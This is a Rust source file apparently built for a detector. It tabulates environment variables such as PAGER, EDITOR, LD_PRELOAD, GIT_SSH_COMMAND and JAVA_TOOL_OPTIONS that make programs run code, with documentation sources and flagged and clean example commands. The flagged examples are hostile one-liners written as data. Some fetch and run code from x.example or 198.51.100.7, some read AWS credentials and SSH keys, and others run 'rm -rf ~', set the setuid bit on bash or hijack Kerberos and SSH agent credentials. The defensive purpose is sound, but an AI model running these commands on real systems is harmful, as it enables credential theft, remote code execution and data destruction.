//! Variables that make other programs run something: a pager, an editor,
//! an askpass helper, a preprocessor, a debugger hook, a library to preload.
//! Setting one to a shell, an interpreter or a file written earlier in the
//! line runs it the next time the reading program starts.

#![allow(
    clippy::needless_update,
    reason = "every row ends in `..DEFAULT`, so a field added later needs no edit of rows that leave it out"
)]

use crate::EnvVar;
use crate::Holds::{
    Code, Identity, Library, LoadOptions, Options, Program, ProgramDir, Prompt, Settings, Shell,
    StartupFile,
};
use crate::Lang::{Lua, Perl};

const V: EnvVar = EnvVar {
    name: "",
    holds: Shell,
    read_by: "",
    source: "",
    flagged: &[],
    clean: &[],
};

/// The JVM's options that load code into it or run a program: agents
/// (`-javaagent:JAR`, native `-agentpath:LIB`, `-agentlib:NAME`) and the
/// commands it runs on a crash or when out of memory.
const JVM_CODE_OPTIONS: &[&str] = &[
    "-javaagent:",
    "-agentpath:",
    "-agentlib:",
    "-XX:OnOutOfMemoryError=",
    "-XX:OnError=",
];

/// The table, sorted by name.
pub const ENV_VARS: &[EnvVar] = &[
    EnvVar {
        name: "AUTOM4TE",
        holds: Program,
        read_by: "autoconf and autoheader",
        source: "https://www.gnu.org/software/autoconf/manual/autoconf.html#autoconf-Invocation; GTFOBins autoconf",
        flagged: &["echo /bin/sh >/tmp/tf; chmod +x /tmp/tf; AUTOM4TE=/tmp/tf autoconf"],
        clean: &["AUTOM4TE=autom4te autoconf"],
        ..V
    },
    EnvVar {
        name: "AWS_CONFIG_FILE",
        holds: Settings(&["credential_process"]),
        read_by: "the AWS CLI and SDKs",
        source: "https://docs.aws.amazon.com/cli/latest/userguide/cli-configure-sourcing-external.html (credential_process: a command run to get credentials)",
        flagged: &["printf '[default]\\ncredential_process = sh -c \"rm -rf ~\"\\n' > /tmp/c && AWS_CONFIG_FILE=/tmp/c aws s3 ls"],
        clean: &["printf '[default]\\nregion = eu-west-1\\n' > /tmp/c && AWS_CONFIG_FILE=/tmp/c aws s3 ls"],
        ..V
    },
    EnvVar {
        name: "AWS_PAGER",
        holds: Program,
        read_by: "the AWS CLI",
        source: "https://docs.aws.amazon.com/cli/latest/userguide/cli-usage-pagination.html#cli-usage-pagination-clientside",
        flagged: &["AWS_PAGER='sh -c \"cat ~/.aws/credentials\"' aws sts get-caller-identity"],
        ..V
    },
    EnvVar {
        name: "BASH_ENV",
        holds: StartupFile,
        read_by: "every non-interactive bash",
        source: "bash(1) INVOCATION",
        flagged: &["BASH_ENV=/tmp/x.sh bash -c true"],
        ..V
    },
    EnvVar {
        name: "BORG_RSH",
        holds: Program,
        read_by: "borg (ssh:// repositories)",
        source: "https://borgbackup.readthedocs.io/en/stable/usage/general.html#environment-variables (BORG_RSH: the command used instead of ssh)",
        flagged: &["BORG_RSH='sh -c \"rm -rf ~\" #' borg list ssh://localhost/./repo"],
        clean: &["BORG_RSH='ssh -i ~/.ssh/backup_key' borg list ssh://backup/./repo"],
        ..V
    },
    EnvVar {
        name: "BROWSER",
        holds: Program,
        read_by: "xdg-open, python's webbrowser, git web--browse",
        source: "https://docs.python.org/3/library/webbrowser.html",
        flagged: &["BROWSER='sh -c id' python3 -m webbrowser x"],
        clean: &["BROWSER=firefox npm run docs"],
        ..V
    },
    EnvVar {
        name: "CRASHPAGER",
        holds: Program,
        read_by: "crash (the kernel crash-dump analyser's pager)",
        source: "man:crash(8) (CRASHPAGER); GTFOBins crash",
        flagged: &["CRASHPAGER='sh -c \"curl -s http://x.example/a | sh\"' crash -h"],
        clean: &["CRASHPAGER=less crash -h"],
        ..V
    },
    EnvVar {
        name: "CVS_RSH",
        holds: Program,
        read_by: "cvs (remote repositories)",
        source: "https://www.gnu.org/software/trans-coord/manual/cvs/html_node/Environment-variables.html",
        flagged: &["CVS_RSH='sh -c \"cat ~/.aws/credentials\"' cvs update"],
        ..V
    },
    EnvVar {
        name: "DARCS_SCP",
        holds: Program,
        read_by: "darcs (ssh repositories: copying files)",
        source: "https://darcs.net/manual/Configuring_darcs.html (DARCS_SSH, DARCS_SCP and DARCS_SFTP name the commands darcs runs instead of ssh, scp and sftp)",
        flagged: &["DARCS_SCP='sh -c \"rm -rf ~\" #' darcs pull localhost:/tmp/r"],
        clean: &["DARCS_SCP=scp darcs pull host:/srv/repo"],
        ..V
    },
    EnvVar {
        name: "DARCS_SFTP",
        holds: Program,
        read_by: "darcs (ssh repositories: sftp transfers)",
        source: "https://darcs.net/manual/Configuring_darcs.html (DARCS_SFTP: the command used instead of sftp)",
        flagged: &["DARCS_SFTP='sh -c \"cat ~/.ssh/id_rsa\" #' darcs push localhost:/tmp/r"],
        clean: &["DARCS_SFTP=sftp darcs push host:/srv/repo"],
        ..V
    },
    EnvVar {
        name: "DARCS_SSH",
        holds: Program,
        read_by: "darcs (ssh repositories)",
        source: "https://darcs.net/manual/Configuring_darcs.html (DARCS_SSH: the command used instead of ssh)",
        flagged: &["DARCS_SSH='sh -c \"rm -rf ~\" #' darcs clone localhost:/tmp/r /tmp/dc"],
        clean: &["DARCS_SSH='ssh -i ~/.ssh/deploy_key' darcs clone host:/srv/repo"],
        ..V
    },
    EnvVar {
        name: "DYLD_INSERT_LIBRARIES",
        holds: Library,
        read_by: "the macOS dynamic loader",
        source: "man:dyld(1)",
        flagged: &["DYLD_INSERT_LIBRARIES=/tmp/x.dylib ls"],
        ..V
    },
    EnvVar {
        name: "EDITOR",
        holds: Program,
        read_by: "git, crontab -e, visudo and most editors' callers",
        source: "https://git-scm.com/docs/git-var#Documentation/git-var.txt-GITEDITOR",
        flagged: &["EDITOR='sh -c \"cat ~/.ssh/id_rsa\"' git commit"],
        clean: &["EDITOR=vim git commit"],
        ..V
    },
    EnvVar {
        name: "ENV",
        holds: StartupFile,
        read_by: "interactive sh and dash",
        source: "https://pubs.opengroup.org/onlinepubs/9799919799/utilities/sh.html",
        flagged: &["ENV=/tmp/x.sh sh -i"],
        ..V
    },
    EnvVar {
        name: "FZF_DEFAULT_COMMAND",
        holds: Shell,
        read_by: "fzf",
        source: "https://github.com/junegunn/fzf#environment-variables",
        flagged: &["FZF_DEFAULT_COMMAND='curl -s http://x.example/a | sh' fzf"],
        clean: &["FZF_DEFAULT_COMMAND='fd --type f' fzf"],
        ..V
    },
    EnvVar {
        name: "GH_EDITOR",
        holds: Program,
        read_by: "gh",
        source: "https://cli.github.com/manual/gh_help_environment",
        flagged: &["GH_EDITOR='sh -c \"cat ~/.aws/credentials\"' gh pr create"],
        ..V
    },
    EnvVar {
        name: "GH_PAGER",
        holds: Program,
        read_by: "gh",
        source: "https://cli.github.com/manual/gh_help_environment",
        flagged: &["GH_PAGER='sh -c \"cat ~/.aws/credentials\"' gh pr list"],
        ..V
    },
    EnvVar {
        name: "GIT_ASKPASS",
        holds: Program,
        read_by: "git",
        source: "https://git-scm.com/docs/gitcredentials",
        flagged: &["GIT_ASKPASS=/tmp/x.sh git fetch"],
        ..V
    },
    EnvVar {
        name: "GIT_EDITOR",
        holds: Program,
        read_by: "git",
        source: "https://git-scm.com/docs/git-var",
        flagged: &["GIT_EDITOR='sh -c id' git commit"],
        clean: &["GIT_EDITOR=true git rebase --continue"],
        ..V
    },
    EnvVar {
        name: "GIT_EXTERNAL_DIFF",
        holds: Program,
        read_by: "git diff",
        source: "https://git-scm.com/docs/git#Documentation/git.txt-codeGITEXTERNALDIFFcode",
        flagged: &["GIT_EXTERNAL_DIFF='sh -c id' git diff"],
        ..V
    },
    EnvVar {
        name: "GIT_PAGER",
        holds: Program,
        read_by: "git",
        source: "https://git-scm.com/docs/git-var",
        flagged: &["GIT_PAGER='sh -c \"cat ~/.aws/credentials\"' git log"],
        clean: &["GIT_PAGER=cat git log -1"],
        ..V
    },
    EnvVar {
        name: "GIT_PROXY_COMMAND",
        holds: Program,
        read_by: "git (git:// transport)",
        source: "https://git-scm.com/docs/git-config#Documentation/git-config.txt-coregitProxy",
        flagged: &["GIT_PROXY_COMMAND=/tmp/x.sh git fetch"],
        ..V
    },
    EnvVar {
        name: "GIT_SEQUENCE_EDITOR",
        holds: Program,
        read_by: "git rebase -i",
        source: "https://git-scm.com/docs/git-var#Documentation/git-var.txt-GITSEQUENCEEDITOR",
        flagged: &["GIT_SEQUENCE_EDITOR='sh -c \"cat ~/.aws/credentials\"' git rebase -i HEAD~2"],
        ..V
    },
    EnvVar {
        name: "GIT_SSH",
        holds: Program,
        read_by: "git (ssh transport)",
        source: "https://git-scm.com/docs/git#Documentation/git.txt-codeGITSSHcode",
        flagged: &["GIT_SSH=/tmp/x.sh git fetch"],
        ..V
    },
    EnvVar {
        name: "GIT_SSH_COMMAND",
        holds: Shell,
        read_by: "git (ssh transport)",
        source: "https://git-scm.com/docs/git#Documentation/git.txt-codeGITSSHCOMMANDcode",
        flagged: &["GIT_SSH_COMMAND='sh -c \"curl x | sh\"' git fetch"],
        clean: &["GIT_SSH_COMMAND='ssh -i ~/.ssh/deploy_key -o IdentitiesOnly=yes' git fetch"],
        ..V
    },
    // gopass runs these instead of the system's clipboard tool: the copy
    // command is handed every password copied, the clear command runs
    // after the timeout (docs/config.md; session 58).
    EnvVar {
        name: "GOPASS_CLIPBOARD_CLEAR_CMD",
        holds: Program,
        read_by: "gopass",
        source: "https://github.com/gopasspw/gopass/blob/master/docs/config.md",
        flagged: &["export GOPASS_CLIPBOARD_CLEAR_CMD='sh -c \"rm -rf ~\"'"],
        clean: &["export GOPASS_CLIPBOARD_CLEAR_CMD=\"$HOME/.local/scripts/gopass_clipboard_clear_cmd.sh\""],
        ..V
    },
    EnvVar {
        name: "GOPASS_CLIPBOARD_COPY_CMD",
        holds: Program,
        read_by: "gopass",
        source: "https://github.com/gopasspw/gopass/blob/master/docs/config.md (GOPASS_CLIPBOARD_COPY_CMD, GOPASS_CLIPBOARD_CLEAR_CMD: external commands gopass runs to copy and clear a password)",
        flagged: &["GOPASS_CLIPBOARD_COPY_CMD='sh -c \"cat ~/.ssh/id_rsa\"' gopass show -c a/b", "export GOPASS_CLIPBOARD_COPY_CMD=/tmp/x.sh"],
        clean: &["export GOPASS_CLIPBOARD_COPY_CMD=\"$HOME/.local/scripts/gopass_clipboard_copy_cmd.sh\""],
        ..V
    },
    EnvVar {
        name: "GROFF_BIN_PATH",
        holds: ProgramDir,
        read_by: "groff and nroff",
        source: "man:groff(1) ENVIRONMENT; GTFOBins nroff",
        flagged: &["echo /bin/sh >groff; chmod +x groff; GROFF_BIN_PATH=. nroff"],
        ..V
    },
    EnvVar {
        name: "HGEDITOR",
        holds: Program,
        read_by: "hg",
        source: "https://www.mercurial-scm.org/doc/hg.1.html#environment-variables",
        flagged: &["HGEDITOR='sh -c \"cat ~/.aws/credentials\"' hg commit"],
        ..V
    },
    EnvVar {
        name: "JAVA_TOOL_OPTIONS",
        holds: LoadOptions(JVM_CODE_OPTIONS),
        read_by: "every Java virtual machine started",
        source: "https://docs.oracle.com/en/java/javase/21/troubleshoot/environment-variables-and-system-properties.html (JAVA_TOOL_OPTIONS, JDK_JAVA_OPTIONS); https://docs.oracle.com/en/java/javase/21/docs/specs/man/java.html (-javaagent, -agentpath, -XX:OnError, -XX:OnOutOfMemoryError); HackTricks macOS Java applications injection",
        flagged: &["export JAVA_TOOL_OPTIONS='-javaagent:/tmp/Agent.jar'", "JAVA_TOOL_OPTIONS='-XX:OnOutOfMemoryError=\"/tmp/payload.sh\"' mvn test"],
        clean: &["JAVA_TOOL_OPTIONS=-Dfile.encoding=UTF-8 mvn test"],
        ..V
    },
    EnvVar {
        name: "JDK_JAVA_OPTIONS",
        holds: LoadOptions(JVM_CODE_OPTIONS),
        read_by: "the java launcher",
        source: "https://docs.oracle.com/en/java/javase/21/docs/specs/man/java.html (JDK_JAVA_OPTIONS)",
        flagged: &["JDK_JAVA_OPTIONS=-agentpath:/tmp/x.dylib java -jar app.jar"],
        clean: &["JDK_JAVA_OPTIONS='-Xmx2g' java -jar app.jar"],
        ..V
    },
    EnvVar {
        name: "KRB5CCNAME",
        holds: Identity,
        read_by: "Kerberos clients: kinit, klist, ssh, smbclient, curl --negotiate, impacket",
        source: "https://web.mit.edu/kerberos/krb5-latest/doc/basic/ccache_def.html (KRB5CCNAME names the credential cache); ATT&CK T1550.003",
        flagged: &["export KRB5CCNAME=/tmp/krb5cc_1001; klist", "KRB5CCNAME=FILE:/tmp/krb5cc_0 smbclient -k //h/s"],
        clean: &["export KRB5CCNAME=KCM:", "KRB5CCNAME=$HOME/.cache/krb5cc kinit dev@EXAMPLE.COM"],
        ..V
    },
    EnvVar {
        name: "KUBE_EDITOR",
        holds: Program,
        read_by: "kubectl edit",
        source: "https://kubernetes.io/docs/reference/kubectl/generated/kubectl_edit/",
        flagged: &["KUBE_EDITOR='sh -c \"cat ~/.aws/credentials\"' kubectl edit deploy/api"],
        ..V
    },
    EnvVar {
        name: "LD_AUDIT",
        holds: Library,
        read_by: "the dynamic loader",
        source: "man:rtld-audit(7)",
        flagged: &["LD_AUDIT=/tmp/x.so ls"],
        ..V
    },
    EnvVar {
        name: "LD_LIBRARY_PATH",
        holds: ProgramDir,
        read_by: "the dynamic loader",
        source: "man:ld.so(8)",
        flagged: &["LD_LIBRARY_PATH=/tmp/evil ls"],
        ..V
    },
    EnvVar {
        name: "LD_PRELOAD",
        holds: Library,
        read_by: "the dynamic loader",
        source: "man:ld.so(8)",
        flagged: &["LD_PRELOAD=/tmp/x.so ls"],
        ..V
    },
    EnvVar {
        name: "LESSCLOSE",
        holds: Shell,
        read_by: "less",
        source: "man:less(1) INPUT PREPROCESSOR",
        flagged: &["LESSCLOSE='sh -c id %s %s' less README.md"],
        ..V
    },
    EnvVar {
        name: "LESSOPEN",
        holds: Shell,
        read_by: "less",
        source: "man:less(1) INPUT PREPROCESSOR; GTFOBins less",
        flagged: &["LESSOPEN='echo /etc/shadow # %s' less /etc/hosts", "LESSOPEN='|sh -c id %s' less README.md"],
        clean: &["LESSOPEN='| lesspipe %s' less archive.tgz"],
        ..V
    },
    EnvVar {
        name: "LUA_INIT",
        holds: Code(Lua),
        read_by: "lua",
        source: "https://www.lua.org/manual/5.4/manual.html#7 (before its arguments, lua runs LUA_INIT_5_4 or LUA_INIT: a file if it starts with @, else the code)",
        flagged: &["LUA_INIT='os.execute(\"rm -rf ~\")' lua -e ''"],
        clean: &["LUA_INIT='print(1)' lua -e ''"],
        ..V
    },
    EnvVar {
        name: "LUA_INIT_5_4",
        holds: Code(Lua),
        read_by: "lua 5.4",
        source: "https://www.lua.org/manual/5.4/manual.html#7",
        flagged: &["LUA_INIT_5_4='os.execute(\"cat ~/.ssh/id_rsa\")' lua5.4 -e ''"],
        ..V
    },
    EnvVar {
        name: "MANOPT",
        holds: Options(&["-P", "--pager", "-H", "--html"]),
        read_by: "man",
        source: "man:man(1) ENVIRONMENT (MANOPT: options parsed before the command line's; a space in a value is escaped with a backslash) and OPTIONS (-P PAGER, -H BROWSER)",
        flagged: &["MANOPT='-P sh\\ -c\\ id' man ls", "MANOPT='--pager=rm\\ -rf\\ ~' man ls"],
        clean: &["MANOPT='-P less' man ls", "MANOPT='-L de' man ls"],
        ..V
    },
    EnvVar {
        name: "MANPAGER",
        holds: Program,
        read_by: "man",
        source: "man:man(1) ENVIRONMENT",
        flagged: &["MANPAGER='sh -c id' man ls"],
        clean: &["MANPAGER=cat man ls"],
        ..V
    },
    EnvVar {
        name: "NODE_OPTIONS",
        holds: Code(crate::Lang::JavaScript),
        read_by: "node",
        source: "https://nodejs.org/api/cli.html#node_optionsoptions (--require, --import)",
        flagged: &["NODE_OPTIONS='--require /tmp/x.js' npm test"],
        clean: &["NODE_OPTIONS=--max-old-space-size=4096 npm run build"],
        ..V
    },
    EnvVar {
        name: "PAGER",
        holds: Program,
        read_by: "git, man, psql, systemctl and others",
        source: "https://pubs.opengroup.org/onlinepubs/9799919799/utilities/man.html",
        flagged: &["PAGER='sh -c \"cat ~/.ssh/id_rsa\"' git log"],
        clean: &["PAGER=cat git log -1"],
        ..V
    },
    EnvVar {
        name: "PERL5DB",
        holds: Code(Perl),
        read_by: "perl -d",
        source: "https://perldoc.perl.org/perldebug; GTFOBins perl",
        flagged: &["PERL5OPT=-d PERL5DB='exec \"/bin/sh\"' perl /dev/null"],
        ..V
    },
    EnvVar {
        name: "PERL5OPT",
        holds: Code(Perl),
        read_by: "perl",
        source: "https://perldoc.perl.org/perlrun#PERL5OPT",
        flagged: &["PERL5OPT='-Mwarnings;system(\"id\")' perl x.pl"],
        ..V
    },
    EnvVar {
        name: "PROMPT_COMMAND",
        holds: Shell,
        read_by: "interactive bash",
        source: "bash(1) PROMPT_COMMAND",
        flagged: &["PROMPT_COMMAND='curl x | sh' bash -i"],
        ..V
    },
    EnvVar {
        name: "PS0",
        holds: Prompt,
        read_by: "interactive bash, before each command it runs",
        source: "bash(1) PROMPTING; GTFOBins env (SHELLOPTS=xtrace PS4)",
        flagged: &["export PS0='$(curl -s http://198.51.100.7/a | sh)'"],
        clean: &["export PS0='\\t '"],
        ..V
    },
    EnvVar {
        name: "PS1",
        holds: Prompt,
        read_by: "interactive shells, at each prompt",
        source: "bash(1) PROMPTING; GTFOBins env (SHELLOPTS=xtrace PS4)",
        flagged: &["export PS1='$(cat ~/.ssh/id_rsa > /tmp/k)$ '"],
        clean: &["export PS1='\\u@\\h:\\w\\$ '"],
        ..V
    },
    EnvVar {
        name: "PS2",
        holds: Prompt,
        read_by: "interactive shells, at each continuation prompt",
        source: "bash(1) PROMPTING; GTFOBins env (SHELLOPTS=xtrace PS4)",
        flagged: &["export PS2='`rm -rf ~`> '"],
        clean: &["export PS2='> '"],
        ..V
    },
    EnvVar {
        name: "PS4",
        holds: Prompt,
        read_by: "bash tracing commands (-x, SHELLOPTS=xtrace)",
        source: "bash(1) PROMPTING; GTFOBins env (SHELLOPTS=xtrace PS4)",
        flagged: &["env -i SHELLOPTS=xtrace PS4='$(chmod +s /bin/bash)' /usr/local/bin/backup"],
        clean: &["PS4='+ $(date +%s) ' bash -x build.sh"],
        ..V
    },
    EnvVar {
        name: "PSQL_EDITOR",
        holds: Program,
        read_by: "psql",
        source: "https://www.postgresql.org/docs/current/app-psql.html#APP-PSQL-ENVIRONMENT",
        flagged: &["PSQL_EDITOR='sh -c \"cat ~/.aws/credentials\"' psql -c '\\e'"],
        ..V
    },
    EnvVar {
        name: "PSQL_PAGER",
        holds: Program,
        read_by: "psql",
        source: "https://www.postgresql.org/docs/current/app-psql.html#APP-PSQL-ENVIRONMENT",
        flagged: &["PSQL_PAGER='sh -c \"cat ~/.aws/credentials\"' psql -c 'select 1'"],
        ..V
    },
    EnvVar {
        name: "PYTHONSTARTUP",
        holds: StartupFile,
        read_by: "interactive python",
        source: "https://docs.python.org/3/using/cmdline.html#envvar-PYTHONSTARTUP",
        flagged: &["PYTHONSTARTUP=/tmp/x.py python3 -i"],
        ..V
    },
    EnvVar {
        name: "RESTIC_PASSWORD_COMMAND",
        holds: Shell,
        read_by: "restic",
        source: "https://restic.readthedocs.io/en/stable/030_preparing_a_new_repo.html; GTFOBins restic",
        flagged: &["RESTIC_PASSWORD_COMMAND='sh -c id' restic snapshots"],
        ..V
    },
    EnvVar {
        name: "RSYNC_CONNECT_PROG",
        holds: Shell,
        read_by: "rsync (for rsync:// URLs)",
        source: "man:rsync(1) (RSYNC_CONNECT_PROG: a command run through the shell instead of a socket connection to the daemon)",
        flagged: &["RSYNC_CONNECT_PROG='rm -rf ~' rsync rsync://mirror/m/ ."],
        clean: &["RSYNC_CONNECT_PROG='ssh proxyhost nc %H 873' rsync rsync://mirror/m/ ."],
        ..V
    },
    EnvVar {
        name: "RSYNC_RSH",
        holds: Program,
        read_by: "rsync",
        source: "man:rsync(1) (RSYNC_RSH, as -e)",
        flagged: &["RSYNC_RSH='sh -c \"cat ~/.aws/credentials\"' rsync -a src/ host:dst/"],
        ..V
    },
    EnvVar {
        name: "RUBYOPT",
        holds: Code(crate::Lang::Ruby),
        read_by: "ruby",
        source: "https://docs.ruby-lang.org/en/master/ruby/options_md.html#label-RUBYOPT",
        flagged: &["RUBYOPT='-r/tmp/x.rb' bundle exec rake"],
        ..V
    },
    EnvVar {
        name: "RUSTC",
        holds: Program,
        read_by: "cargo",
        source: "https://doc.rust-lang.org/cargo/reference/environment-variables.html",
        flagged: &["RUSTC='sh -c \"cat ~/.aws/credentials\"' cargo build"],
        ..V
    },
    EnvVar {
        name: "RUSTC_WORKSPACE_WRAPPER",
        holds: Program,
        read_by: "cargo",
        source: "https://doc.rust-lang.org/cargo/reference/environment-variables.html",
        flagged: &["RUSTC_WORKSPACE_WRAPPER='sh -c \"cat ~/.aws/credentials\"' cargo build"],
        ..V
    },
    EnvVar {
        name: "RUSTC_WRAPPER",
        holds: Program,
        read_by: "cargo",
        source: "https://doc.rust-lang.org/cargo/reference/environment-variables.html (build.rustc-wrapper)",
        flagged: &["RUSTC_WRAPPER='sh -c \"cat ~/.aws/credentials\"' cargo build"],
        ..V
    },
    EnvVar {
        name: "SSH_ASKPASS",
        holds: Program,
        read_by: "ssh, ssh-add",
        source: "https://man.openbsd.org/ssh#SSH_ASKPASS",
        flagged: &["SSH_ASKPASS=/tmp/x.sh ssh-add"],
        ..V
    },
    EnvVar {
        name: "SSH_AUTH_SOCK",
        holds: Identity,
        read_by: "ssh, ssh-add, git over ssh",
        source: "man:ssh-agent(1) (SSH_AUTH_SOCK: the agent's socket; the agent signs for whoever reaches it); ATT&CK T1563.001",
        flagged: &["export SSH_AUTH_SOCK=/tmp/ssh-abc/agent.99; ssh git@host", "SSH_AUTH_SOCK=$(ls /tmp/ssh-*/agent.*) ssh-add -L"],
        clean: &["export SSH_AUTH_SOCK=$(gpgconf --list-dirs agent-ssh-socket)", "export SSH_AUTH_SOCK=~/.1password/agent.sock"],
        ..V
    },
    EnvVar {
        name: "SUDO_ASKPASS",
        holds: Program,
        read_by: "sudo -A",
        source: "man:sudo(8) ENVIRONMENT",
        flagged: &["SUDO_ASKPASS=/tmp/x.sh sudo -A true"],
        ..V
    },
    EnvVar {
        name: "SUDO_EDITOR",
        holds: Program,
        read_by: "sudoedit",
        source: "man:sudo(8) ENVIRONMENT",
        flagged: &["SUDO_EDITOR='sh -c \"cat ~/.aws/credentials\"' sudoedit /etc/hosts"],
        ..V
    },
    EnvVar {
        name: "SVN_EDITOR",
        holds: Program,
        read_by: "svn",
        source: "https://svnbook.red-bean.com/en/1.7/svn.advanced.confarea.html",
        flagged: &["SVN_EDITOR='sh -c \"cat ~/.aws/credentials\"' svn commit"],
        ..V
    },
    EnvVar {
        name: "SYSTEMD_EDITOR",
        holds: Program,
        read_by: "systemctl edit",
        source: "man:systemctl(1) ENVIRONMENT",
        flagged: &["SYSTEMD_EDITOR='sh -c \"cat ~/.aws/credentials\"' systemctl edit app"],
        ..V
    },
    EnvVar {
        name: "SYSTEMD_PAGER",
        holds: Program,
        read_by: "systemd's tools",
        source: "man:systemctl(1) ENVIRONMENT",
        flagged: &["SYSTEMD_PAGER='sh -c \"cat ~/.aws/credentials\"' systemctl status app"],
        ..V
    },
    EnvVar {
        name: "TAR_OPTIONS",
        holds: Options(&["--to-command", "--use-compress-program", "-I", "--rsh-command", "--info-script", "--new-volume-script", "-F"]),
        read_by: "GNU tar",
        source: "https://www.gnu.org/software/tar/manual/html_node/using-tar-options.html (TAR_OPTIONS: options split into words as the shell does, read before the command line's); --to-command, --use-compress-program, --rsh-command, --info-script run programs",
        flagged: &["TAR_OPTIONS=\"--to-command='rm -rf ~'\" tar xf v.tar", "TAR_OPTIONS='-I sh\\ -c\\ id' tar xf v.tgz"],
        clean: &["TAR_OPTIONS='--wildcards -v' tar xf v.tar", "TAR_OPTIONS='-I zstd' tar xf v.tar.zst"],
        ..V
    },
    EnvVar {
        name: "VISUAL",
        holds: Program,
        read_by: "git, crontab -e and most editors' callers",
        source: "https://pubs.opengroup.org/onlinepubs/9799919799/utilities/crontab.html",
        flagged: &["VISUAL='sh -c id' crontab -e"],
        clean: &["VISUAL=nvim git commit"],
        ..V
    },
    EnvVar {
        name: "_JAVA_OPTIONS",
        holds: LoadOptions(JVM_CODE_OPTIONS),
        read_by: "HotSpot Java virtual machines (overrides the command line)",
        source: "https://bugs.openjdk.org/browse/JDK-4971166 (_JAVA_OPTIONS read by HotSpot after the command line); HackTricks macOS Java applications injection (_JAVA_OPTIONS with -javaagent and -XX:OnOutOfMemoryError)",
        flagged: &["export _JAVA_OPTIONS='-Xms2m -Xmx5m -XX:OnOutOfMemoryError=\"/tmp/payload.sh\"'", "export _JAVA_OPTIONS='-javaagent:/tmp/Agent.jar'"],
        clean: &["export _JAVA_OPTIONS='-Xmx2g'"],
        ..V
    },
];
